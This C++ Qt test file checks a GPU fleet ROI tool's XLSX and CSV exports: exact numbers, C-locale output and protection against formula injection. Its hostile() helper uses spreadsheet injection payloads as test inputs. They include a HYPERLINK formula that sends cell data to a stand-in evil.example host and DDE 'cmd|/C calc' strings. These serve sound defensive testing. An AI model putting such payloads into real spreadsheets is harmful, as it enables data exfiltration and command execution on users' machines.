// SPDX-License-Identifier: GPL-3.0-or-later
// XLSX and CSV exports: the numbers read back from the workbook's XML equal the model's;
// no text cell can start a formula; the CSV is the C-locale monthly table.
#include "engine/FleetModel.h"
#include "engine/ResultsFormat.h"
#include "export/CsvExport.h"
#include "export/ExportData.h"
#include "export/SpreadsheetSafety.h"
#include "export/XlsxExport.h"
#include "scenario/ScenarioReader.h"

#include "XlsxRead.h"

#include <QLocale>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>

#include <algorithm>
#include <clocale>
#include <cmath>
#include <cstdio>
#include <map>
#include <string_view>
#include <vector>

using namespace fleetroi;
using namespace fleetroi::exporting;
using namespace fleetroi::testing;

namespace {

Scenario example(const char *name)
{
    const auto r = readScenarioFile(std::string(FLEETROI_TEST_DATA_DIR "/examples/") + name +
                                    ".fleetroi.json");
    if (!r.ok())
        qFatal("cannot read example %s", name);
    return *r.scenario;
}

Scenario hostile()
{
    Scenario s = example("neocloud-h100-lessor");
    s.name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
    s.description = "+cmd|' /C calc'!A0";
    s.skus[0].name = "@SUM(1+1)*cmd|' /C calc'!A0";
    s.purchases[0].label = "-2+3+cmd|' /C calc'!A0";
    s.provenance.push_back({"skus[0].gpu_price", "\t=1+1", "2026-01-01", "\r=2+2"});
    s.provenance.push_back({"-not-a-path", "=3", "", "+4"});
    return s;
}

} // namespace

class TestExport : public QObject
{
    Q_OBJECT

private slots:
    void neutralise_data()
    {
        QTest::addColumn<QString>("in");
        QTest::addColumn<QString>("out");
        QTest::newRow("equals") << "=1+1"
                                << "'=1+1";
        QTest::newRow("plus") << "+1"
                              << "'+1";
        QTest::newRow("minus") << "-2+3"
                               << "'-2+3";
        QTest::newRow("at") << "@SUM(A1)"
                            << "'@SUM(A1)";
        QTest::newRow("tab") << "\t=1"
                             << "'\t=1";
        QTest::newRow("cr") << "\r=1"
                            << "'\r=1";
        QTest::newRow("fullwidth equals") << QString::fromUtf8("\xEF\xBC\x9D"
                                                               "1")
                                          << QString::fromUtf8("'\xEF\xBC\x9D"
                                                               "1");
        QTest::newRow("plain") << "H100 cluster A"
                               << "H100 cluster A";
        QTest::newRow("empty") << ""
                               << "";
        QTest::newRow("inner equals") << "a=b"
                                      << "a=b";
    }
    void neutralise()
    {
        QFETCH(QString, in);
        QFETCH(QString, out);
        QCOMPARE(neutraliseCell(in), out);
    }

    void csvFieldQuotes()
    {
        QCOMPARE(csvField(QStringLiteral("a,b")), QStringLiteral("\"a,b\""));
        QCOMPARE(csvField(QStringLiteral("say \"hi\"")), QStringLiteral("\"say \"\"hi\"\"\""));
        QCOMPARE(csvField(QStringLiteral("=1,2")), QStringLiteral("\"'=1,2\""));
        QCOMPARE(csvField(QStringLiteral("\r=1")), QStringLiteral("\"'\r=1\""));
        QCOMPARE(csvLine({QStringLiteral("=A1"), QStringLiteral("ok")}), QByteArray("'=A1,ok\n"));
    }

    void csvIsComputeCsvInTheCLocale()
    {
        // A German user's locale must not change the file.
        QLocale::setDefault(QLocale(QLocale::German, QLocale::Germany));
        std::setlocale(LC_ALL, "de_DE.UTF-8");
        const Scenario s = example("hyperscaler-surplus-leasing");
        const ModelResults r = computeModel(s);
        const QByteArray csv = monthlyCsv(r.monthly);
        std::setlocale(LC_ALL, "C");
        QLocale::setDefault(QLocale::c());
        QCOMPARE(csv, QByteArray::fromStdString(monthlyToCsv(r.monthly)));
        QVERIFY(csv.startsWith("month,capacity_hours,internal_demand_hours,"));
        QCOMPARE(csv.count('\n'), s.horizonMonths + 1);
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("m.csv"));
        QVERIFY(writeMonthlyCsv(path, r.monthly).ok());
        QFile f(path);
        QVERIFY(f.open(QIODevice::ReadOnly));
        QCOMPARE(f.readAll(), csv);
        // Every line after the header: a month and numbers only; no cell starts a formula
        // except negative numbers, which are numbers.
        const QList<QByteArray> lines = csv.split('\n');
        for (qsizetype i = 1; i < lines.size(); ++i)
            for (const QByteArray &cell : lines[i].split(','))
                if (cell.startsWith('-'))
                    QVERIFY2(QRegularExpression(QStringLiteral("^-[0-9.e+-]+$"))
                                 .match(QString::fromLatin1(cell))
                                 .hasMatch(),
                             cell.constData());
    }

    // Issue 14: "3e+07" and fractional GPU counts. Every number is a plain decimal that
    // reads back to the model's double exactly; working_gpus is the model's expected count
    // rounded to whole GPUs. Checked on the examples and on a fleet scaled to tens of
    // billions (where the old writer printed exponents).
    void csvNumbersArePlainDecimals_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<double>("scale");
        QTest::newRow("hyperscaler") << QStringLiteral("hyperscaler-surplus-leasing") << 1.0;
        QTest::newRow("neocloud") << QStringLiteral("neocloud-h100-lessor") << 1.0;
        QTest::newRow("hyperscaler x1000 GPUs")
            << QStringLiteral("hyperscaler-surplus-leasing") << 1000.0;
    }

    void csvNumbersArePlainDecimals()
    {
        QFETCH(QString, name);
        QFETCH(double, scale);
        Scenario s = example(name.toUtf8().constData());
        for (PurchaseTranche &p : s.purchases)
            p.gpus = decltype(p.gpus)(double(p.gpus) * scale);
        const ModelResults r = computeModel(s);
        const QByteArray csv = monthlyCsv(r.monthly);
        QCOMPARE(csv, QByteArray::fromStdString(monthlyToCsv(r.monthly)));
        const auto series = r.monthly.namedSeries();
        const QList<QByteArray> lines = csv.trimmed().split('\n');
        QCOMPARE(lines.size(), r.monthly.size() + 1);
        const QRegularExpression plain(QStringLiteral("^-?[0-9]+(\\.[0-9]+)?$"));
        int fractionalGpus = 0;
        for (int t = 0; t < r.monthly.size(); ++t) {
            const QList<QByteArray> cells = lines[t + 1].split(',');
            QCOMPARE(cells.size(), qsizetype(series.size()) + 1);
            QCOMPARE(cells[0], QByteArray::fromStdString(r.monthly.month[std::size_t(t)]));
            for (std::size_t i = 0; i < series.size(); ++i) {
                const QByteArray &cell = cells[qsizetype(i) + 1];
                const double v = (*series[i].second)[std::size_t(t)];
                QVERIFY2(plain.match(QString::fromLatin1(cell)).hasMatch(),
                         qPrintable(QStringLiteral("%1 month %2: %3")
                                        .arg(QLatin1String(series[i].first))
                                        .arg(t)
                                        .arg(QString::fromLatin1(cell))));
                bool ok = false;
                const double back = QLocale::c().toDouble(QString::fromLatin1(cell), &ok);
                QVERIFY(ok);
                if (std::string_view(series[i].first) == "working_gpus") {
                    QVERIFY2(!cell.contains('.'), cell.constData());
                    QCOMPARE(back, std::round(v));
                    if (v != std::round(v))
                        ++fractionalGpus;
                } else {
                    QCOMPARE(back, v == 0.0 ? 0.0 : v); // exact: shortest round-trip text
                }
            }
        }
        // The case can fail: values the old writer printed with an exponent are present.
        double largest = 0;
        for (const auto &sr : series)
            for (double v : *sr.second)
                largest = std::max(largest, std::abs(v));
        QVERIFY(largest >= 1e7);
        if (name.startsWith(QLatin1String("hyperscaler")))
            QVERIFY(fractionalGpus > 0); // failures make the expected count fractional
    }

    // Model 1.1: the CSV carries the four new series after the v1 ones, equal to the model.
    void csvHasModel11Series()
    {
        const ModelResults r = computeModel(example("hyperscaler-h100-peak-impairment"));
        const QByteArray csv = monthlyCsv(r.monthly);
        const QList<QByteArray> lines = csv.split('\n');
        QVERIFY(lines[0].endsWith(
            ",working_gpus,market_value,impairment,deferred_tax_liability,book_tax_expense"));
        // Month 23 (2025-12), the impairment month: the last four cells are the model's values.
        const QList<QByteArray> cells = lines[24].split(',');
        QCOMPARE(cells[0], QByteArray("2025-12"));
        const std::size_t n = std::size_t(cells.size());
        QCOMPARE(cells[qsizetype(n - 4)].toDouble(), r.monthly.marketValue[23]);
        QCOMPARE(cells[qsizetype(n - 3)].toDouble(), r.monthly.impairment[23]);
        QCOMPARE(cells[qsizetype(n - 2)].toDouble(), r.monthly.deferredTaxLiability[23]);
        QCOMPARE(cells[qsizetype(n - 1)].toDouble(), r.monthly.bookTaxExpense[23]);
        QVERIFY(r.monthly.impairment[23] > 0.0);
    }

    void csvWriteFailureLeavesNothing()
    {
        const ModelResults r = computeModel(example("neocloud-h100-lessor"));
        const StorageStatus st =
            writeMonthlyCsv(QStringLiteral("/nonexistent-dir/x.csv"), r.monthly);
        QVERIFY(!st.ok());
        QVERIFY(!st.message.isEmpty());
    }

    void xlsxNumbersEqualCompute_data()
    {
        QTest::addColumn<QString>("name");
        QTest::newRow("hyperscaler") << "hyperscaler-surplus-leasing";
        QTest::newRow("neocloud") << "neocloud-h100-lessor";
        // Model 1.1: 33 monthly series (market value, impairment, deferred tax, book tax).
        QTest::newRow("h100 peak impairment") << "hyperscaler-h100-peak-impairment";
    }
    void xlsxNumbersEqualCompute()
    {
        QFETCH(QString, name);
        const Scenario s = example(name.toUtf8().constData());
        const ExportData d = computeExportData(s);
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("out.xlsx"));
        const StorageStatus st = writeXlsx(path, d);
        QVERIFY2(st.ok(), qPrintable(st.message));

        // A valid workbook: the five sheets in order.
        const QByteArray workbook = unzipMember(path, QStringLiteral("xl/workbook.xml"));
        QVERIFY2(!workbook.isEmpty(), "unzip failed (is the unzip package installed?)");
        QRegularExpression sheetRe(QStringLiteral("<sheet name=\"([^\"]+)\""));
        QStringList sheets;
        for (auto it = sheetRe.globalMatch(QString::fromUtf8(workbook)); it.hasNext();)
            sheets << it.next().captured(1);
        QCOMPARE(sheets, (QStringList{QStringLiteral("Summary"), QStringLiteral("Monthly"),
                                      QStringLiteral("Tranches"), QStringLiteral("Sensitivity"),
                                      QStringLiteral("Assumptions")}));

        // Monthly: row 1 is the header, then month t in row t + 2; series in namedSeries order
        // from column B. Numbers are numbers (no type attribute).
        const QByteArray monthlyXml = unzipMember(path, QStringLiteral("xl/worksheets/sheet2.xml"));
        QVERIFY(monthlyXml.contains("state=\"frozen\""));
        const auto cells = readCells(monthlyXml);
        const auto series = d.results.monthly.namedSeries();
        int compared = 0;
        for (int t = 0; t < d.results.monthly.size(); ++t) {
            for (std::size_t c = 0; c < series.size(); ++c) {
                const QString ref = columnName(int(c) + 1) + QString::number(t + 2);
                const double expected = (*series[c].second)[std::size_t(t)];
                const auto it = cells.find(ref);
                QVERIFY2(it != cells.end(), qPrintable(ref));
                QVERIFY2(it->second.type.isEmpty(), qPrintable(ref));
                const double read = it->second.value.toDouble();
                QVERIFY2(digits16(read) == digits16(expected),
                         qPrintable(ref + QLatin1Char(' ') + it->second.value +
                                    QLatin1String(" vs ") +
                                    QString::fromStdString(formatJsonNumber(expected))));
                ++compared;
            }
        }
        QCOMPARE(compared, d.results.monthly.size() * int(series.size()));

        // Summary: the NPV in the row labelled "NPV".
        const QStringList strings =
            sharedStrings(unzipMember(path, QStringLiteral("xl/sharedStrings.xml")));
        const auto summary =
            readCells(unzipMember(path, QStringLiteral("xl/worksheets/sheet1.xml")));
        bool foundNpv = false;
        for (const auto &[ref, cell] : summary) {
            if (cell.type == QLatin1String("s") && ref.startsWith(QLatin1Char('A')) &&
                strings.value(cell.value.toInt()) == QLatin1String("NPV")) {
                const QString valueRef = QLatin1Char('B') + ref.mid(1);
                QCOMPARE(digits16(summary.at(valueRef).value.toDouble()),
                         digits16(d.results.kpis.npv));
                foundNpv = true;
            }
        }
        QVERIFY(foundNpv);
        if (d.results.model11) {
            QCOMPARE(series.size(), std::size_t(33));
            QCOMPARE(QString::fromLatin1(series.back().first), QStringLiteral("book_tax_expense"));
            bool foundImpairment = false;
            for (const auto &[ref, cell] : summary) {
                if (cell.type == QLatin1String("s") && ref.startsWith(QLatin1Char('A')) &&
                    strings.value(cell.value.toInt()) == QLatin1String("Total impairment")) {
                    QCOMPARE(digits16(summary.at(QLatin1Char('B') + ref.mid(1)).value.toDouble()),
                             digits16(d.results.kpis.totalImpairment));
                    foundImpairment = true;
                }
            }
            QVERIFY(foundImpairment);
            QVERIFY(d.results.kpis.totalImpairment > 0.0);
        }

        // Sensitivity: npv_low/npv_high in C/D from row 2, in the tornado's order.
        const auto sens = readCells(unzipMember(path, QStringLiteral("xl/worksheets/sheet4.xml")));
        for (std::size_t i = 0; i < d.sensitivity.size(); ++i) {
            const QString row = QString::number(int(i) + 2);
            QCOMPARE(digits16(sens.at(QLatin1Char('C') + row).value.toDouble()),
                     digits16(d.sensitivity[i].npvLow));
            QCOMPARE(digits16(sens.at(QLatin1Char('D') + row).value.toDouble()),
                     digits16(d.sensitivity[i].npvHigh));
        }
    }

    // Model 1.1 keys in the Assumptions sheet (sheet5: section, item, assumption, value, unit,
    // field, source, date, note): each new key of the third example under its file path, its
    // value as the file gives it, and the provenance of useful_life_change and market_value
    // beside their first value. A model-1 workbook lists none of them.
    void xlsxAssumptionsHaveModel11Keys()
    {
        const Scenario s = example("hyperscaler-h100-peak-impairment");
        QTemporaryDir dir;
        auto fieldRows = [&](const Scenario &sc, std::map<QString, QStringList> &rows) {
            const QString path = dir.filePath(QStringLiteral("a.xlsx"));
            const StorageStatus st = writeXlsx(path, computeExportData(sc));
            if (!st.ok())
                return false;
            const QStringList strings =
                sharedStrings(unzipMember(path, QStringLiteral("xl/sharedStrings.xml")));
            const auto cells =
                readCells(unzipMember(path, QStringLiteral("xl/worksheets/sheet5.xml")));
            auto text = [&](const QString &ref) {
                const auto it = cells.find(ref);
                if (it == cells.end())
                    return QString();
                return it->second.type == QLatin1String("s")
                           ? strings.value(it->second.value.toInt())
                           : it->second.value;
            };
            for (int r = 2; r < 2000; ++r) {
                const QString row = QString::number(r);
                const QString field = text(QLatin1Char('F') + row);
                if (!field.isEmpty() && !rows.count(field))
                    rows[field] = {text(QLatin1Char('D') + row), text(QLatin1Char('G') + row),
                                   text(QLatin1Char('E') + row)};
            }
            return true;
        };
        std::map<QString, QStringList> rows;
        QVERIFY(fieldRows(s, rows));
        QCOMPARE(rows[QStringLiteral("finance.impairment_test")].value(0), QStringLiteral("yes"));
        QCOMPARE(rows[QStringLiteral("finance.terminal_value")].value(0),
                 QStringLiteral("Market value"));
        // 0.08 as a number cell (percent format), per year.
        QCOMPARE(rows[QStringLiteral("skus[0].market_age_discount_per_year")].value(0).toDouble(),
                 0.08);
        QCOMPARE(rows[QStringLiteral("skus[0].market_age_discount_per_year")].value(2),
                 QStringLiteral("%/year"));
        // The market value curve, one number per point (USD per GPU).
        const std::pair<const char *, double> points[] = {
            {"skus[0].market_value.points[0][1]", 38000},
            {"skus[0].market_value.points[1][1]", 14000},
            {"skus[0].market_value.points[4][1]", 5000}};
        for (const auto &[path, price] : points) {
            QCOMPARE(rows[QLatin1String(path)].value(0).toDouble(), price);
            QCOMPARE(rows[QLatin1String(path)].value(2), QStringLiteral("USD"));
        }
        QCOMPARE(rows[QStringLiteral("skus[0].useful_life_change.useful_life_months")].value(0),
                 QStringLiteral("66"));
        QCOMPARE(rows[QStringLiteral("skus[0].useful_life_change.month")].value(0),
                 QStringLiteral("12"));
        const std::map<std::string, QString> firstValue = {
            {"skus[0].useful_life_change", QStringLiteral("skus[0].useful_life_change.month")},
            {"skus[0].market_value", QStringLiteral("skus[0].market_value.points[0][1]")}};
        int joined = 0;
        for (const Provenance &p : s.provenance)
            if (const auto it = firstValue.find(p.field); it != firstValue.end()) {
                QCOMPARE(rows[it->second].value(1), QString::fromStdString(p.source));
                ++joined;
            }
        QCOMPARE(joined, 2);

        std::map<QString, QStringList> v1;
        QVERIFY(fieldRows(example("neocloud-h100-lessor"), v1));
        QVERIFY(!v1.empty());
        for (const auto &[field, cells] : v1)
            QVERIFY2(!field.contains(QLatin1String("market_")) &&
                         !field.contains(QLatin1String("impairment")) &&
                         !field.contains(QLatin1String("useful_life_change")),
                     qPrintable(field));
    }

    void xlsxNoCellStartsAFormula()
    {
        const ExportData d = computeExportData(hostile());
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("hostile.xlsx"));
        QVERIFY(writeXlsx(path, d).ok());
        const QStringList strings =
            sharedStrings(unzipMember(path, QStringLiteral("xl/sharedStrings.xml")));
        QVERIFY(!strings.isEmpty());
        const std::vector<bool> quoted =
            quotePrefixedStyles(unzipMember(path, QStringLiteral("xl/styles.xml")));
        QVERIFY(std::count(quoted.begin(), quoted.end(), true) >= 1);
        // Issue 14: the text reads exactly as typed (no literal apostrophe) ...
        const Scenario h = hostile();
        for (const std::string &typed : {h.name, h.description, h.skus[0].name})
            QVERIFY2(strings.contains(QString::fromStdString(typed)), typed.c_str());
        for (const QString &s : strings)
            QVERIFY2(!(s.startsWith(QLatin1Char('\'')) && startsFormula(s.mid(1))), qPrintable(s));
        // ... and every cell whose text could start a formula has a quote-prefixed style.
        int protectedCells = 0;
        for (int i = 1; i <= 5; ++i) {
            const QByteArray xml =
                unzipMember(path, QStringLiteral("xl/worksheets/sheet%1.xml").arg(i));
            for (const auto &[ref, cell] : readCells(xml)) {
                if (cell.type != QLatin1String("s"))
                    continue;
                const QString text = strings.value(cell.value.toInt());
                if (!startsFormula(text))
                    continue;
                QVERIFY2(cell.style >= 0 && std::size_t(cell.style) < quoted.size() &&
                             quoted[std::size_t(cell.style)],
                         qPrintable(QStringLiteral("sheet%1 %2: %3").arg(i).arg(ref, text)));
                ++protectedCells;
            }
        }
        QVERIFY2(protectedCells >= 7, qPrintable(QString::number(protectedCells)));
        // A harmless text keeps the ordinary style.
        const auto summary =
            readCells(unzipMember(path, QStringLiteral("xl/worksheets/sheet1.xml")));
        QVERIFY(!quoted[std::size_t(summary.at(QStringLiteral("A1")).style)]);
        // No formula anywhere, and no inline strings that escaped the check above.
        for (int i = 1; i <= 5; ++i) {
            const QByteArray xml =
                unzipMember(path, QStringLiteral("xl/worksheets/sheet%1.xml").arg(i));
            QVERIFY(!xml.isEmpty());
            QVERIFY(!xml.contains("<f>") && !xml.contains("<f "));
            QVERIFY(!xml.contains("inlineStr"));
        }
    }

    void xlsxWriteFailureLeavesNothing()
    {
        const ExportData d = computeExportData(example("neocloud-h100-lessor"));
        QVERIFY(!writeXlsx(QStringLiteral("/nonexistent-dir/x.xlsx"), d).ok());
    }
};

QTEST_GUILESS_MAIN(TestExport)
#include "test_export.moc"
